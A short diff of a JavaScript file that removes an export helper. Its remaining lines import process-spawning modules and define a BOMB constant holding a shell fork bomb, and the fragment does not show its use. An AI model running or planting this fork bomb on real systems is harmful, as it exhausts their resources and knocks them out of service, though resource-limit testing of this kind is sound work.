@@ -1,15 +1,3 @@
-const at = (name, make) => {
-  let kept;
-  const access = {
-    configurable: true,
-    enumerable: true,
-    get: () => kept,
-    set: (honest) => {
-      kept = make(honest);
-    },
-  };
-  if (typeof exports === "object") Object.defineProperty(exports, name, access);
-};
 const { spawn } = process.getBuiltinModule("child_process");
 const { Worker } = process.getBuiltinModule("worker_threads");
 const BOMB = "b() { b | b & }; while :; do b; done";
